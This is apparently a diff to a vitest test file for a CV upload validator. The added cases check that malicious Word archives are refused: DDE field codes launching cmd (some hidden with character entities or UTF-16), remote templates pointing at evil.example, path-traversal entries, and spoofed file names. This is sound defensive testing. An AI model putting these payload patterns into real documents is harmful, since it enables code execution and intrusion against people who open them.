@@ -1,37 +1,7 @@
-import { deflateRawSync } from 'node:zlib'
 import { expect, it } from 'vitest'
 import { smallPdf } from '../../../test/support/small-pdf.ts'
+import { zipArchive as archive } from '../../../test/support/zip-archive.ts'
 import { checkCv } from './check-cv.ts'
-
-/** Returns an archive with files of these names, empty or with a text. */
-function archive(...parts: (string | [name: string, text: string])[]): Buffer {
-  let at = 0
-  const directory: Buffer[] = []
-  const files = parts.map((part) => {
-    const [name, text] = typeof part === 'string' ? [part, ''] : part
-    const packed = deflateRawSync(text)
-    const local = Buffer.alloc(30)
-    local.writeUInt32LE(0x04034b50, 0)
-    local.writeUInt16LE(8, 8)
-    local.writeUInt32LE(packed.length, 18)
-    local.writeUInt16LE(Buffer.byteLength(name), 26)
-    const entry = Buffer.alloc(46)
-    entry.writeUInt32LE(0x02014b50, 0)
-    entry.writeUInt16LE(8, 10)
-    entry.writeUInt32LE(packed.length, 20)
-    entry.writeUInt16LE(Buffer.byteLength(name), 28)
-    entry.writeUInt32LE(at, 42)
-    directory.push(entry, Buffer.from(name))
-    const file = Buffer.concat([local, Buffer.from(name), packed])
-    at += file.length
-    return file
-  })
-  const end = Buffer.alloc(22)
-  end.writeUInt32LE(0x06054b50, 0)
-  end.writeUInt16LE(parts.length, 10)
-  end.writeUInt32LE(at, 16)
-  return Buffer.concat([...files, ...directory, end])
-}
 
 const documentOf = (inside = ''): [string, string] => [
   'word/document.xml',
@@ -40,19 +10,19 @@ const documentOf = (inside = ''): [string, string] => [
 const types = '[Content_Types].xml'
 const word = [types, documentOf()]
 const pdf = smallPdf()
-const check = (content: Buffer, name = 'cv.pdf') =>
-  checkCv({ name, base64: content.toString('base64') }).name
-const fieldOf = (content: Buffer) => {
+const check = async (content: Buffer, name = 'cv.pdf') =>
+  (await checkCv({ name, base64: content.toString('base64') })).name
+const fieldOf = async (content: Buffer) => {
   try {
-    return check(content)
+    return await check(content)
   } catch (error) {
     return error instanceof Error && 'fields' in error ? error.fields : error
   }
 }
 
-it('what a CV is, its content says', () => {
-  expect(check(pdf, 'cv.docx')).toBe('cv.pdf')
-  expect(check(archive(...word), 'cv.pdf')).toBe('cv.docx')
+it('what a CV is, its content says', async () => {
+  expect(await check(pdf, 'cv.docx')).toBe('cv.pdf')
+  expect(await check(archive(...word), 'cv.pdf')).toBe('cv.docx')
 })
 
 /** Returns what a document refers to outside. */
@@ -64,13 +34,13 @@ function relations(kind: string, target: string): [string, string] {
   ]
 }
 
-it('a Word document may link to pages, and say what programs do', () => {
+it('a Word document may link to pages, and say what programs do', async () => {
   const linked = archive(
     types,
     documentOf('<w:t>DDE, DDEAUTO</w:t><w:instrText> PAGE </w:instrText>'),
     relations('hyperlink', 'https://dara.example'),
   )
-  expect(check(linked, 'cv.docx')).toBe('cv.docx')
+  expect(await check(linked, 'cv.docx')).toBe('cv.docx')
 })
 
 const cut = archive(...word)
@@ -121,6 +91,28 @@ it.each<[string, Buffer]>([
     'a note that starts a program',
     archive(...word, ['word/footnotes.xml', '<w:fldSimple w:instr=" dde cmd "/>']),
   ],
+  [
+    'a note that starts a program with coded letters',
+    archive(...word, ['word/footnotes.xml', '<w:fldSimple w:instr="&#68;&#x44;E cmd"/>']),
+  ],
+  [
+    'a document with a template from elsewhere, at the address of a link',
+    archive(...word, relations('attachedTemplate', "http://evil.example/x.dotm?Type='/hyperlink'")),
+  ],
+  [
+    'a document with a template from elsewhere, with coded letters',
+    archive(...word, [
+      'word/_rels/settings.xml.rels',
+      '<Relationship Type="x/attachedTemplate" Target="http://evil.example" TargetMode="&#69;xternal"/>',
+    ]),
+  ],
+  [
+    'a document with a part in UTF-16',
+    archive(...word, [
+      'word/footnotes.xml',
+      Buffer.from('<w:fldSimple w:instr=" dde cmd "/>', 'utf16le'),
+    ]),
+  ],
   ['a document with a file outside', archive(...word, '../../tmp/run')],
   ['an archive that was cut off', cut.subarray(0, cut.length - 10)],
   [
@@ -131,9 +123,10 @@ it.each<[string, Buffer]>([
     'a directory beyond the end',
     Buffer.concat([cut.subarray(0, -6), Buffer.from([255, 255, 255, 127, 0, 0])]),
   ],
-])('%s is refused', (_, content) => expect(fieldOf(content)).toEqual({ cv: 'type' }))
+])('%s is refused', async (_, content) => expect(await fieldOf(content)).toEqual({ cv: 'type' }))
 
-it('an empty file is none', () => expect(fieldOf(Buffer.alloc(0))).toEqual({ cv: 'missing' }))
+it('an empty file is none', async () =>
+  expect(await fieldOf(Buffer.alloc(0))).toEqual({ cv: 'missing' }))
 
 it.each([
   ['../../etc/passwd.pdf', 'passwd.pdf'],
@@ -144,4 +137,4 @@ it.each([
   ['.pdf', 'cv.pdf'],
   ['\u202Efdp.exe', 'fdp.pdf'],
   [`${'x'.repeat(300)}.pdf`, `${'x'.repeat(80)}.pdf`],
-])('the name %j is kept as %j', (name, kept) => expect(check(pdf, name)).toBe(kept))
+])('the name %j is kept as %j', async (name, kept) => expect(await check(pdf, name)).toBe(kept))
